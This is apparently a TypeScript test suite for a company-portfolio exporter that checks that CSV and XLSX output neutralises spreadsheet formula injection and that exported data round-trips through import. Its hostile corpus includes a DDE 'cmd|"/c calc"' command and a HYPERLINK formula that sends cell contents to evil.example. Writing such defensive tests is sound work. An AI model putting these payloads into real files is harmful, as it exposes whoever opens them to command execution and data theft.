import { read } from '@e965/xlsx'
import * as fc from 'fast-check'
import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { ListedCompany } from '#domain/companies/company.ts'
import { NO_STORIES, PortfolioExport, type ExportedCompany } from '#domain/companies/export.ts'
import { unguardFormula } from '#domain/companies/files.ts'
import { createPlanner } from '#domain/companies/import/plan.ts'
import { CURRENCIES } from '#domain/companies/positions/money.ts'
import { INSTRUMENTS, POSITION_KINDS, PositionInput, VALUATION_BASES } from '#domain/companies/positions/position.ts'
import { parseCompanyFile } from '../import/file/parse-company-file.ts'
import { csvFile, jsonFile, xlsxFile } from './formats.ts'

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠', "'=", "''+", '"=', ',=', ';=']
const BODIES = [
  '1+1',
  'cmd|"/c calc"!A1',
  'HYPERLINK("https://evil.example?"&A1,"x")',
  '1","=2',
  '1";"=2',
  "1'\r\n=2",
  '<c t="str"><f>1+1</f></c>]]>&lt;_x003D_1',
  '_x000D__x005F_x0041_\u0001\u001F\uFFFE',
]
const CORPUS = STARTS.flatMap((start) => BODIES.map((body) => start + body))

const company = (change: Partial<ExportedCompany> = {}): ExportedCompany => ({
  name: 'Cedar',
  website: null,
  category: null,
  stage: null,
  investmentDate: null,
  createdAt: '2026-03-01T12:00:00.000Z',
  sample: false,
  news: { items: 0, latestAt: null },
  stories: NO_STORIES,
  positions: [],
  ...change,
})
const hostile = CORPUS.map((text) =>
  company({
    name: text,
    website: text,
    category: text,
    stage: text,
    stories: { ...NO_STORIES, lastTitle: text },
  }),
)

async function* pagesOf(companies: ExportedCompany[], size = 7) {
  for (let at = 0; at < companies.length; at += size) yield companies.slice(at, at + size)
}

async function bytesOf(file: AsyncIterable<Uint8Array>): Promise<Buffer> {
  return Buffer.concat(await Array.fromAsync(file))
}

const csvOf = async (companies: ExportedCompany[]) => String(await bytesOf(csvFile(pagesOf(companies))))
const csvRows = async (companies: ExportedCompany[]) =>
  Papa.parse<string[]>(await csvOf(companies), { skipEmptyLines: true }).data.slice(1)

const workbookOf = async (companies: ExportedCompany[]) =>
  read(await bytesOf(xlsxFile(pagesOf(companies))), { cellStyles: true, sheetStubs: false })

test('CSV follows RFC 4180, with CRLF, a byte order mark, and quotes where needed', async () => {
  expect(await csvOf([company({ name: 'Smith, "Sons" & Co', stage: 'A;B', category: ' x' })])).toBe(
    '\uFEFFCompany,Website,Category,Stage,Date Invested,Added,Latest News,News Items,' +
      '"Stories, 30 Days","Stories, 90 Days",Last Story,Last Story Title,Last Event,Main Section,Quiet Since,Sample,' +
      'Position,Position Date,Amount,Currency,Instrument,Round,Valuation,Valuation Basis,Position Notes\r\n' +
      '"Smith, ""Sons"" & Co",," x","A;B",,2026-03-01,,0,0,0,,,,,,,,,,,,,,,\r\n',
  )
})

test('CSV: hostile text remains text and stays in its cell', async () => {
  const rows = await csvRows(hostile)
  expect(rows).toHaveLength(CORPUS.length)
  for (const [at, row] of rows.entries()) {
    expect(row).toHaveLength(25)
    for (const cell of [...row.slice(0, 4), row[11] ?? '']) {
      expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/u)
      expect(unguardFormula(cell)).toBe(CORPUS[at])
    }
  }
})

test('XLSX: every text is a string cell, no cell has a formula, and no text is lost', async () => {
  const { Sheets, SheetNames } = await workbookOf(hostile)
  expect(SheetNames).toEqual(['Portfolio'])
  const sheet = Sheets.Portfolio ?? {}
  expect(sheet['!ref']).toBe(`A1:Y${CORPUS.length + 1}`)
  for (const [at, text] of CORPUS.entries())
    for (const column of 'ABCDL') {
      const cell: { t: string; v: string; f?: string } = sheet[`${column}${at + 2}`]
      expect(cell.t).toBe('s')
      expect(cell.f).toBeUndefined()
      expect(cell.v).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/u)
      // The reader collapses CRLF into one line break; the file itself has both characters.
      expect(unguardFormula(cell.v)).toBe(text.replaceAll('\r\n', '\n'))
    }
})

test('XLSX: news counts are numbers, dates are ISO strings, and empty values have no cell', async () => {
  const news = { items: 12, latestAt: '2026-02-28T12:00:00.000Z' }
  const { Sheets } = await workbookOf([company({ investmentDate: '2024-01-31', news })])
  expect(Sheets.Portfolio).toMatchObject({
    E2: { t: 's', v: '2024-01-31' },
    G2: { t: 's', v: '2026-02-28' },
    H2: { t: 'n', v: 12 },
  })
  expect(Sheets.Portfolio).not.toHaveProperty('B2')
})

test('JSON: hostile text is valid and unchanged', async () => {
  const text = String(await bytesOf(jsonFile(pagesOf(hostile), new Date('2026-03-01T12:00:00Z'))))
  expect(PortfolioExport.parse(JSON.parse(text))).toEqual({
    exportedAt: '2026-03-01T12:00:00.000Z',
    companies: hostile,
  })
})

const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 40 }), fc.constantFrom(...CORPUS))
const listed = fc
  .record({
    title: text,
    name: text,
    website: fc.oneof(fc.constant(''), fc.webUrl()),
    category: text,
    stage: text,
    investmentDate: fc.oneof(
      fc.constant(''),
      fc
        .date({ min: new Date('1990-01-01'), max: new Date('2030-01-01'), noInvalidDate: true })
        .map((date) => date.toISOString().slice(0, 10)),
    ),
  })
  .map(({ title, ...row }) => ({ title, ...ListedCompany.safeParse(row).data }))
  .filter((row) => row.name !== undefined)
  .map((row) =>
    company({
      stories: { ...NO_STORIES, last30Days: 1, lastTitle: row.title, lastEvent: 'press' },
      name: row.name,
      website: row.website ?? null,
      category: row.category ?? null,
      stage: row.stage ?? null,
      investmentDate: row.investmentDate ?? null,
    }),
  )

test.each(['csv', 'xlsx'] as const)('"import(export(x)) = x": %s', async (kind) => {
  const file = kind === 'csv' ? csvFile : xlsxFile
  await fc.assert(
    fc.asyncProperty(fc.array(listed, { minLength: 1, maxLength: 20 }), async (companies) => {
      const table = await parseCompanyFile(await bytesOf(file(pagesOf(companies))), { kind, strict: false })
      expect(table.warnings).toEqual([])
      expect(table.judge(0, table.total)).toMatchObject(
        companies.map(({ name, website, category, stage, investmentDate }) => ({
          name,
          website,
          category,
          stage,
          investmentDate,
          reason: null,
          note: null,
        })),
      )
      expect(table.total).toBe(companies.length)
    }),
    { numRuns: 100 },
  )
})

const day = fc
  .date({ min: new Date('1900-01-01'), max: new Date('2099-12-31'), noInvalidDate: true })
  .map((date) => date.toISOString().slice(0, 10))
const decimal = fc.oneof(
  fc.constantFrom('0', '0.001', '0.1', '25000.50', '999999999999.999', '1000', '-1'),
  fc.bigInt(0n, 999_999_999_999_999n).map((units) => `${units / 1000n}.${String(units % 1000n).padStart(3, '0')}`),
)
/** Any position that can be stored. */
const position = fc
  .record({
    kind: fc.constantFrom(...POSITION_KINDS),
    date: fc.option(day),
    amount: decimal,
    currency: fc.constantFrom(...CURRENCIES),
    instrument: fc.option(fc.constantFrom(...INSTRUMENTS)),
    round: fc.option(fc.oneof(text, fc.constantFrom('Seed', 'none', '—', 'Series A', '2024', 'SAFE'))),
    valuation: fc.option(decimal),
    valuationBasis: fc.option(fc.constantFrom(...VALUATION_BASES)),
    notes: fc.option(fc.oneof(text, fc.constantFrom('n/a', '-', '1,500', 'He said "no", twice', '合計 🦉'))),
  })
  .map((given) => PositionInput.safeParse(given).data)
  .filter((given) => given !== undefined)

test.each(['csv', 'xlsx'] as const)('"import(export(x)) = x", with positions: %s', async (kind) => {
  const file = kind === 'csv' ? csvFile : xlsxFile
  const withPositions = fc
    .tuple(listed, fc.array(position, { maxLength: 4 }))
    .map(([one, positions]) => ({ ...one, positions }))
  await fc.assert(
    fc.asyncProperty(fc.array(withPositions, { minLength: 1, maxLength: 8 }), async (companies) => {
      const table = await parseCompanyFile(await bytesOf(file(pagesOf(companies))), { kind, strict: false })
      expect(table.warnings).toEqual([])
      const rows = table.judge(0, table.total)
      expect(rows.filter(({ reason, note }) => reason !== null || note !== null)).toEqual([])
      const held = companies.flatMap(({ name, positions }) => positions.map((one) => ({ name, ...one })))
      expect(rows.flatMap(({ name, positions = [] }) => positions.map((one) => ({ name, ...one })))).toEqual(held)
      const planned = createPlanner({ update: true }).plan(rows, [])
      expect(planned.flatMap(({ add }) => add)).toEqual(companies.flatMap(({ positions }) => positions))
    }),
    { numRuns: 200 },
  )
})

test('names that look like totals, amounts or rounds survive our own export and import', async () => {
  const names = ['Total', '42', '$1,500', '2024-01-05', 'Acme (Series B)', 'acme.com', 'Fund I total']
  const website = 'https://www.linkedin.com/company/acme'
  const bytes = await bytesOf(csvFile(pagesOf(names.map((name) => company({ name, website })))))
  const table = await parseCompanyFile(bytes, { kind: 'csv', strict: false })
  expect(table.judge(0, 7).map((row) => [row.name, row.website, row.reason])).toEqual(
    names.map((name) => [name, website, null]),
  )
})

test('an export fails if its source fails, rather than ending early', async () => {
  async function* broken() {
    yield [company()]
    throw new Error('the database is gone')
  }
  for (const file of [csvFile(broken()), xlsxFile(broken()), jsonFile(broken(), new Date(0))])
    await expect(bytesOf(file)).rejects.toThrow('the database is gone')
})
